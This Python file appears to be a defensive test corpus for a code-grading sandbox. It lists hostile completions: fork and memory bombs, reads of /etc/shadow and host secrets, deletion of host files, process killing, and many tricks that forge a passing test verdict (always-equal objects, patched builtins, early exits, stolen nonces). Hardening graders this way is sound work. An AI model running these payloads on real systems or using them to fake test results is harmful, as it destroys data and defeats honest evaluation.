"""Hostile completions for the `unit_tests` scorer, as data.

Every case defines `f` so that its test (`assert f(2) == 7` unless the case says otherwise) passes
only if its attack works: a forged verdict, a host file read or written, a connection made. A weak
sandbox therefore shows up as a score above 0. Cases marked `forges` are proven attacks: they
score 1.0 against the harness with its in-process defences removed (the audit guard, the test's
own builtins and names, the test-dialect rewrite that judges the verdict outside the completion's
objects), so the corpus test cannot pass by the attacks simply being broken. `min_version` cases
need that interpreter (sys.monitoring, threading.settrace_all_threads: 3.12).

Placeholders filled in by the test: {secret} (a host config file holding SECRET_TEXT), {sentinel}
(a host file that must survive), {victim_dir} (a host dir that must stay empty), {host_dir} (the
dir holding those three, outside /tmp), {port} (a host TCP server on 127.0.0.1), {site_packages}
(the interpreter's real site-packages), {server_pid} (the test process's pid on the host).
"""

from dataclasses import dataclass

SECRET_TEXT = "tandem-server-config-secret"
TEST = "assert f(2) == 7"

# Writes a plausible verdict (READY + 64 hex chars) on every fd: the forged-marker attack.
SPRAY = """
import os
def spray():
    for fd in range(0, 64):
        try:
            os.write(fd, b"R" + b"0" * 64)
        except OSError:
            pass
"""

# What every verdict forger ends with: READY and the user token are already on the verdict fd
# (argv[1] of the harness) when the test calls f, so the nonce alone completes a pass. The nonce is
# the bytes constant of the test's code object (the argument of its last statement).
FORGE = """
import os, sys, types
def forge(nonce):
    os.write(int(sys.argv[1]), nonce)
    os._exit(0)
def nonce_of(code):
    return [c for c in code.co_consts if type(c) is bytes and len(c) == 32][0]
def search(obj, depth, seen):
    # Look for the test's code object among obj's contents and what its __reduce_ex__ exposes.
    if type(obj) is types.CodeType:
        return nonce_of(obj) if obj.co_filename == '<test>' else None
    if depth == 0 or id(obj) in seen or type(obj) in (str, bytes, int, float, bool, type(None), type):
        return None
    seen[id(obj)] = obj  # kept alive, so a later temporary cannot reuse the id
    if type(obj) in (dict, types.MappingProxyType):
        children = list(obj.values())
    elif type(obj) in (tuple, list):
        children = list(obj)
    else:
        try:
            children = list(obj.__reduce_ex__(2))
        except Exception:
            return None
    for child in children:
        found = search(child, depth - 1, seen)
        if found:
            return found
    return None
"""

# The memory of this very process, read at the address of a live object.
READ_MEMORY = (
    "def f(x):\n    with open({path!r}, 'rb') as mem:\n"
    "        mem.seek(id(f))\n        return 7 if mem.read(8) else 0\n"
)


@dataclass(frozen=True)
class HostileCase:
    name: str
    code: str
    test: str = TEST
    forges: bool = False  # scores 1.0 once the harness's in-process defences are removed
    min_version: tuple[int, int] = (3, 0)  # the interpreter the case needs (sys.monitoring: 3.12)


CASES = [
    # --- resources --------------------------------------------------------------------------
    HostileCase("infinite_loop_cpu", "def f(x):\n    while True:\n        pass\n"),
    HostileCase("infinite_sleep_wall_clock", "import time\nwhile True:\n    time.sleep(0.1)\n"),
    HostileCase("fork_bomb", "import os\nwhile True:\n    os.fork()\n"),
    HostileCase("memory_bomb", "blocks = []\nwhile True:\n    blocks.append(bytearray(50 << 20))\n"),
    HostileCase("huge_output", "while True:\n    print('A' * 10000)\n"),
    HostileCase(
        "disk_fill_tmp",
        "with open('/tmp/fill', 'wb') as out:\n    while True:\n        out.write(b'0' * (1 << 20))\n",
    ),
    HostileCase(
        "unbounded_recursion",
        "import sys\nsys.setrecursionlimit(10**7)\n"
        "def g(n):\n    return g(n + 1)\ndef f(x):\n    return g(0)\n",
    ),
    HostileCase(
        # Recursion through C (map) overflows the C stack: SIGSEGV, no ctypes needed.
        "c_stack_overflow_segfault",
        "import sys\nsys.setrecursionlimit(10**7)\n"
        "def g(n):\n    return list(map(g, [n]))\ndef f(x):\n    return g(0)\n",
    ),
    HostileCase(
        "thread_bomb",
        "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,)).start()\n",
    ),
    # --- the host -----------------------------------------------------------------------------
    HostileCase("read_etc_shadow", "def f(x):\n    return 7 if open('/etc/shadow').read() else 0\n"),
    HostileCase(
        "read_server_config",
        "def f(x):\n    return 7 if '" + SECRET_TEXT + "' in open('{secret}').read() else 0\n",
    ),
    HostileCase("list_repository", "import os\ndef f(x):\n    return 7 if os.listdir('{root}') else 0\n"),
    HostileCase(
        "list_site_packages", "import os\ndef f(x):\n    return 7 if os.listdir('{site_packages}') else 0\n"
    ),
    HostileCase(
        "write_outside_tmp", "def f(x):\n    open('{victim_dir}/pwned', 'w').write('x')\n    return 7\n"
    ),
    HostileCase("write_usr", "def f(x):\n    open('/usr/pwned', 'w').write('x')\n    return 7\n"),
    HostileCase("delete_sentinel", "import os\ndef f(x):\n    os.remove('{sentinel}')\n    return 7\n"),
    HostileCase(
        "delete_host_dir", "import shutil\ndef f(x):\n    shutil.rmtree('{host_dir}')\n    return 7\n"
    ),
    HostileCase(
        "delete_interpreter", "import os, sys\ndef f(x):\n    os.remove(sys.executable)\n    return 7\n"
    ),
    HostileCase(
        "open_socket_host",
        "import socket\ndef f(x):\n"
        "    socket.create_connection(('127.0.0.1', {port}), timeout=1).close()\n    return 7\n",
    ),
    HostileCase(
        "open_socket_internet",
        "import socket\ndef f(x):\n"
        "    socket.create_connection(('1.1.1.1', 53), timeout=1).close()\n    return 7\n",
    ),
    HostileCase(
        "read_host_proc",
        "import os\ndef f(x):\n"
        "    return 7 if len([p for p in os.listdir('/proc') if p.isdigit()]) > 5 else 0\n",
    ),
    HostileCase(
        "host_environment",
        "import os\ndef f(x):\n    return 7 if set(os.environ) - {'PATH', 'LANG', 'HOME', 'PWD'} else 0\n",
    ),
    HostileCase("still_root", "import os\ndef f(x):\n    return 7 if os.getuid() == 0 else 0\n"),
    HostileCase(
        "spawn_shell_os_system", "import os\ndef f(x):\n    return 7 if os.system('exit 0') == 0 else 0\n"
    ),
    HostileCase(
        "spawn_subprocess",
        "import subprocess\ndef f(x):\n    return int(subprocess.check_output(['echo', '7']))\n",
    ),
    HostileCase("signal_parent", "import os\nos.kill(os.getppid(), 9)\ndef f(x):\n    return 7\n"),
    HostileCase("signal_server", "import os\nos.kill({server_pid}, 9)\ndef f(x):\n    return 7\n"),
    HostileCase("kill_everything", "import os\nos.kill(-1, 9)\n"),
    HostileCase("segfault_ctypes", "import ctypes\nctypes.string_at(0)\n"),
    # --- faking a pass --------------------------------------------------------------------------
    HostileCase("early_sys_exit", "import sys\ndef f(x):\n    return 0\nsys.exit(0)\n"),
    HostileCase("early_os_exit", "import os\ndef f(x):\n    return 0\nos._exit(0)\n"),
    HostileCase("sys_exit_in_f", "import sys\ndef f(x):\n    sys.exit(0)\n"),
    HostileCase("os_exit_in_f", "import os\ndef f(x):\n    os._exit(0)\n"),
    HostileCase(
        "patch_assertion_error",
        "import builtins\nclass Quiet(Exception):\n    pass\nbuiltins.AssertionError = Quiet\n"
        "__builtins__['AssertionError'] = Quiet\ndef f(x):\n    return 0\n",
    ),
    HostileCase(
        "patch_builtin_used_by_test",
        "__builtins__['abs'] = lambda value: 7\ndef f(x):\n    return 0\n",
        test="assert abs(f(2)) == 7",
        forges=True,
    ),
    HostileCase(
        "patch_builtins_module",
        "import builtins\nbuiltins.abs = lambda value: 7\ndef f(x):\n    return 0\n",
        test="assert abs(f(2)) == 7",
    ),
    HostileCase(
        "print_fake_markers",
        "print('PASS')\nprint('1 passed')\nprint('R' + '0' * 64)\ndef f(x):\n    return 0\n",
    ),
    HostileCase("spray_fake_verdict", SPRAY + "spray()\ndef f(x):\n    spray()\n    return 0\n"),
    HostileCase(
        "close_stdout",
        "import os, sys\nsys.stdout.close()\nos.close(1)\nos.close(2)\ndef f(x):\n    return 0\n",
    ),
    HostileCase(
        "override_print_and_stdout",
        "import io, sys, builtins\nbuiltins.print = lambda *a, **k: None\n"
        "sys.stdout = io.StringIO()\ndef f(x):\n    return 0\n",
    ),
    HostileCase(
        "thread_sprays_after_test",
        SPRAY + "import threading, time\ndef later():\n    time.sleep(0.3)\n    spray()\n"
        "threading.Thread(target=later).start()\ndef f(x):\n    return 0\n",
    ),
    HostileCase(
        "atexit_marker",
        SPRAY
        + "import atexit\natexit.register(spray)\natexit.register(print, 'PASS')\ndef f(x):\n    return 0\n",
    ),
    HostileCase(
        "del_raises_system_exit",
        "class Bomb:\n    def __del__(self):\n        raise SystemExit(0)\n"
        "keep = Bomb()\ndef f(x):\n    Bomb()\n    return 0\n",
    ),
    HostileCase(
        # On the test's thread (no rewrite), the caller's frame is the test's, its code holds the
        # nonce; on the worker thread it is the worker's, which has no link to the test.
        "caller_frame_reads_nonce",
        FORGE + "def f(x):\n    forge(nonce_of(sys._getframe(1).f_code))\n",
        forges=True,
    ),
    HostileCase(
        "frame_code_reads_constants",
        "import sys\ndef f(x):\n    consts = sys._getframe(1).f_code.co_consts\n"
        "    return [c for c in consts if type(c) is int and c != x][-1]\n",
        forges=True,
    ),
    HostileCase(
        "current_frames_read_nonce",
        FORGE + "NONCE = None\nfor frame in sys._current_frames().values():\n"
        "    while frame is not None and NONCE is None:\n        NONCE = search(frame.f_locals, 16, {})\n"
        "        frame = frame.f_back\ndef f(x):\n    forge(NONCE)\n",
        forges=True,
    ),
    HostileCase(
        "gc_scan_reads_nonce",
        FORGE + "import gc\ndef f(x):\n    for obj in gc.get_objects():\n        if type(obj) is tuple:\n"
        "            for item in obj:\n"
        "                if type(item) is types.CodeType and item.co_filename == '<test>':\n"
        "                    forge(nonce_of(item))\n    return 0\n",
        forges=True,
    ),
    HostileCase(
        "settrace_jumps_over_assert",
        # From the 'line' event of line 3 (the assert) to line 4 (`__tandem_done(nonce)`): the test is
        # wrapped in `try:` (line 1), so its own lines start at 2.
        "import sys\ndef f(x):\n    target = sys._getframe(1)\n    def tracer(frame, event, arg):\n"
        "        if frame is target and event == 'line' and frame.f_lineno == 3:\n"
        "            frame.f_lineno = 4\n"
        "        return tracer\n    sys.settrace(tracer)\n    target.f_trace = tracer\n    return 0\n",
        test="result = f(2)\nassert result == 7",
        forges=True,
    ),
    # Not `forges` as root: the drop to the run's uid leaves the process non-dumpable, so the kernel
    # refuses /proc/self/mem too. Unprivileged (a user namespace, no uid change) only the guard does.
    HostileCase("read_own_memory", READ_MEMORY.format(path="/proc/self/mem")),
    HostileCase("memory_via_chdir", "import os\nos.chdir('/proc/self')\n" + READ_MEMORY.format(path="mem")),
    HostileCase(
        "memory_via_symlink",
        "import os\nos.symlink('/proc/self/mem', '/tmp/m')\n" + READ_MEMORY.format(path="/tmp/m"),
    ),
    HostileCase(
        "monkeypatch_harness",
        "import __main__, _thread, os, time\n__main__.main = lambda: None\n_thread._count = lambda: 0\n"
        "time.sleep = lambda s: None\nos._exit = lambda code: None\nos.write = lambda fd, data: len(data)\n"
        "def f(x):\n    return 0\n",
    ),
    HostileCase(
        "interrupt_harness_thread", "import _thread\n_thread.interrupt_main()\ndef f(x):\n    return 0\n"
    ),
    HostileCase(
        "excepthook_in_harness",
        "import sys\nsys.excepthook = lambda *a: None\nsys.unraisablehook = lambda *a: None\n"
        "def f(x):\n    raise SystemExit\n",
    ),
    HostileCase(
        "new_audit_hook",
        "import gc, sys\nsys.addaudithook(lambda event, args: None)\n"
        "def f(x):\n    return 7 if gc.get_objects() else 0\n",
        forges=True,
    ),
    # --- forging the verdict through the completion's own objects (issue 17) ------------------
    HostileCase(
        # The example: an object that equals everything.
        "object_equals_everything",
        "def f(x): return type('A', (), {'__eq__': lambda *a: True})()\n",
        forges=True,
    ),
    HostileCase(
        "object_equals_everything_two_tests",
        "def f(x): return type('A', (), {'__eq__': lambda *a: True, '__ne__': lambda *a: False})()\n",
        test="assert f(2) == 7\nassert not (f(0) != 1)",
        forges=True,
    ),
    HostileCase(
        "int_subclass_eq",
        "class I(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
        "def f(x):\n    return I(0)\n",
        forges=True,
    ),
    HostileCase(
        "str_subclass_eq",
        "class S(str):\n    def __eq__(self, other):\n        return True\n    __hash__ = str.__hash__\n"
        "def f(x):\n    return S('')\n",
        test="assert f(2) == 'seven'",
        forges=True,
    ),
    HostileCase(
        "tuple_subclass_eq_in_list",
        "class T(tuple):\n    def __eq__(self, other):\n        return True\n    __hash__ = tuple.__hash__\n"
        "def f(x):\n    return [T()]\n",
        test="assert f(2) == [(7, 1)]",
        forges=True,
    ),
    HostileCase(
        "bool_via_dunder_bool",
        "class B:\n    def __bool__(self):\n        return True\ndef f(x):\n    return B()\n",
        test="assert f(2)",
        forges=True,
    ),
    HostileCase(
        "bool_subclass_of_int_truthy",
        "class Yes(int):\n    def __bool__(self):\n        return True\ndef f(x):\n    return Yes(0)\n",
        test="assert f(2)",
        forges=True,
    ),
    HostileCase(
        "index_via_dunder_index",
        "class Two:\n    def __index__(self):\n        return 2\ndef f(x):\n    return Two()\n",
        test="assert [0, 0, 7][f(5)] == 7",
        forges=True,
    ),
    HostileCase(
        "hash_collision_membership",
        "class H:\n    def __hash__(self):\n        return hash(7)\n    def __eq__(self, other):\n"
        "        return True\ndef f(x):\n    return H()\n",
        test="assert f(2) in {7, 8}",
        forges=True,
    ),
    HostileCase(
        "contains_everything",
        "class C:\n    def __contains__(self, item):\n        return True\ndef f(x):\n    return C()\n",
        test="assert 7 in f(2)",
        forges=True,
    ),
    HostileCase(
        "class_attribute_lies_isinstance",
        "class P:\n    __class__ = property(lambda self: int)\n    def __eq__(self, other):\n"
        "        return True\ndef f(x):\n    return P()\n",
        test="assert isinstance(f(2), int) and f(2) == 7",
        forges=True,
    ),
    HostileCase(
        # The real dict behind int's mappingproxy: denied (gc.get_referents), and even when not,
        # int's comparison is its C slot, which editing the dict does not reach.
        "gc_patch_int_eq",
        "import gc\nreal = [d for d in gc.get_referents(int.__dict__) if type(d) is dict][0]\n"
        "real['__eq__'] = lambda a, b: True\nreal['__ne__'] = lambda a, b: False\n"
        "def f(x):\n    return 0\n",
    ),
    HostileCase(
        "weakref_proxy_of_an_equal_to_all",
        "import weakref\nclass A:\n    def __eq__(self, other):\n        return True\nKEEP = A()\n"
        "def f(x):\n    return weakref.proxy(KEEP)\n",
        forges=True,
    ),
    HostileCase(
        "generator_instead_of_value",
        "def f(x):\n    yield 7\n",
        test="assert f(2) == 7",
    ),
    HostileCase(
        "eq_raises_base_exception",
        "class Stop(BaseException):\n    pass\nclass E:\n    def __eq__(self, other):\n        raise Stop\n"
        "def f(x):\n    return E()\n",
    ),
    HostileCase(
        "raise_assertion_subclass",
        "class Pass(AssertionError):\n    pass\ndef f(x):\n    raise Pass('ok')\n",
    ),
    HostileCase("raise_keyboard_interrupt", "def f(x):\n    raise KeyboardInterrupt\n"),
    HostileCase(
        "nan_is_not_seven",
        "def f(x):\n    return float('nan')\n",
        test="assert f(2) == 7 or f(2) != f(2) and False",
    ),
    HostileCase(
        # A thread flips the returned list's item between a wrong int and an equal-to-everything
        # object: a check of the types followed by a comparison of the original would race.
        "toctou_flip_returned_list",
        "import threading\nclass A:\n    def __eq__(self, other):\n        return True\n"
        "BOX = [0]\ndef flip():\n    for _ in range(200000):\n        BOX[0] = A()\n        BOX[0] = 0\n"
        "def f(x):\n    threading.Thread(target=flip).start()\n    return BOX\n",
        test="assert f(2) == [7]",
    ),
    HostileCase(
        "shadow_builtin_sorted",
        "sorted = lambda values: [1, 2, 3]\ndef f(x):\n    return [9]\n",
        test="assert sorted(f(2)) == [1, 2, 3]",
        forges=True,
    ),
    HostileCase(
        "shadow_builtin_all",
        "all = lambda values: True\ndef f(x):\n    return 0\n",
        test="assert all([f(x) == 3 * x + 1 for x in range(3)])",
        forges=True,
    ),
    HostileCase(
        "patch_sys_modules_math",
        "import sys, types\nfake = types.ModuleType('math')\nfake.isclose = lambda *a, **k: True\n"
        "sys.modules['math'] = fake\ndef f(x):\n    return 0\n",
        test="import math\nassert math.isclose(f(2), 7.0)",
        forges=True,
    ),
    HostileCase(
        "patch_math_module_attribute",
        "import math\nmath.isclose = lambda *a, **k: True\ndef f(x):\n    return 0\n",
        test="import math\nassert math.isclose(f(2), 7.0)",
        forges=True,
    ),
    HostileCase(
        "rebind_f_during_test",
        "def f(x):\n    global f\n    f = lambda y: 7\n    return 0\n",
        test="f(0)\nassert f(2) == 7",
    ),
    HostileCase(
        # gc.callbacks run on whichever thread collects: with a threshold of 1 that includes the
        # test's, where the callback's frame links to the test's frame and so to its nonce.
        "gc_callback_on_test_thread",
        FORGE + "import gc\ndef cb(phase, info):\n    frame = sys._getframe()\n    while frame is not None:\n"
        "        if frame.f_code.co_filename == '<test>':\n"
        "            forge(nonce_of(frame.f_code))\n        frame = frame.f_back\n"
        "gc.callbacks.append(cb)\ngc.set_threshold(1)\ndef f(x):\n    return 0\n",
        # Keeps what it allocates (3.12 counts net allocations): collections then run on its thread.
        test="values = [[f(k)] for k in range(3)]\nassert values == [[1], [4], [7]]",
        forges=True,
    ),
    HostileCase(
        "fake_threads_failed_marker",
        "import os, sys\nos.write(int(sys.argv[1]), b'E')\nos._exit(0)\n",
    ),
    HostileCase(
        "read_control_channel",
        "import os, sys\nos.set_blocking(int(sys.argv[1]), False)\n"
        "def f(x):\n    try:\n        data = os.read(int(sys.argv[1]), 65536)\n    except OSError:\n"
        "        return 0\n    return 7 if data else 0\n",
    ),
    HostileCase(
        "read_other_items_tests",
        "import os\ndef f(x):\n    for pid in os.listdir('/proc'):\n        if pid.isdigit():\n"
        "            for name in ('cmdline', 'environ'):\n                try:\n"
        "                    if b'assert f(' in open(f'/proc/{pid}/{name}', 'rb').read():\n"
        "                        return 7\n                except OSError:\n                    pass\n"
        "    return 0\n",
    ),
    HostileCase(
        "create_builtin_posixsubprocess",
        "import _imp, importlib.machinery\n"
        "spec = importlib.machinery.ModuleSpec('_posixsubprocess', None, origin='built-in')\n"
        "module = _imp.create_builtin(spec)\ndef f(x):\n    return 7 if module.fork_exec else 0\n",
    ),
    HostileCase(
        # The 3.12 case: a LINE callback sees the test's code object as it runs, and so the
        # constants it compares against; f returns the one that is not its argument.
        "monitoring_reads_test_constants",
        "import sys\nmon = sys.monitoring\nSEEN = []\n"
        "def on_line(code, line):\n    if code.co_filename == '<test>':\n"
        "        SEEN.extend(code.co_consts)\nmon.use_tool_id(mon.DEBUGGER_ID, 'x')\n"
        "mon.register_callback(mon.DEBUGGER_ID, mon.events.LINE, on_line)\n"
        "mon.set_events(mon.DEBUGGER_ID, mon.events.LINE)\n"
        "def f(x):\n    return [c for c in SEEN if type(c) is int and c != x][-1]\n",
        forges=True,
        min_version=(3, 12),
    ),
    HostileCase(
        "settrace_all_threads",
        "import sys, threading\nSEEN = []\ndef tracer(frame, event, arg):\n"
        "    if frame.f_code.co_filename == '<test>':\n        SEEN.extend(frame.f_code.co_consts)\n"
        "    return tracer\nthreading.settrace_all_threads(tracer)\n"
        "def f(x):\n    return [c for c in SEEN if type(c) is int and c != x][-1]\n",
        forges=True,
        min_version=(3, 12),
    ),
    HostileCase(
        "setprofile_all_threads_reads_nonce",
        FORGE + "import threading\ndef profile(frame, event, arg):\n"
        "    if frame.f_code.co_filename == '<test>':\n        forge(nonce_of(frame.f_code))\n"
        "threading.setprofile_all_threads(profile)\ndef f(x):\n    return 0\n",
        forges=True,
        min_version=(3, 12),
    ),
]
